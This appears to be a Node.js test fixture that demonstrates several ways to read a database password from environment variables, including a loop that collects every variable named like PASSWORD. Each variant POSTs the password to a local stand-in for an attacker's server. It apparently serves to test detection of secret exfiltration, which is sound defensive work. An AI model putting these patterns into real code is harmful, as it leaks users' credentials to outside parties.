'use strict';
const http = require('http');

/** Posts a text to the attacker's server. */
function send(port, text) {
  return new Promise((resolve, reject) => {
    const request = http.request({ host: '127.0.0.1', port, method: 'POST', agent: false }, (response) => {
      response.resume().on('end', resolve);
    });
    request.on('error', reject).end(text);
  });
}

module.exports = require('./probe.js')('demo-23-env-exfiltration', {
  text: ({ port, text }) => send(port, text),
  one: ({ port }) => send(port, `one ${process.env.DEMO_23_DB_PASSWORD}`),
  all: ({ port }) => send(port, `all ${{ ...process.env }.DEMO_23_DB_PASSWORD}`),
  walk: ({ port }) => {
    const found = [];
    for (const name in process.env) if (/PASSWORD/.test(name)) found.push(process.env[name]);
    return send(port, `walk ${found.join()}`);
  },
  descriptor: ({ port }) => {
    const found = Object.getOwnPropertyDescriptor(process.env, 'DEMO_23_DB_PASSWORD');
    return send(port, `descriptor ${found && found.value}`);
  },
});
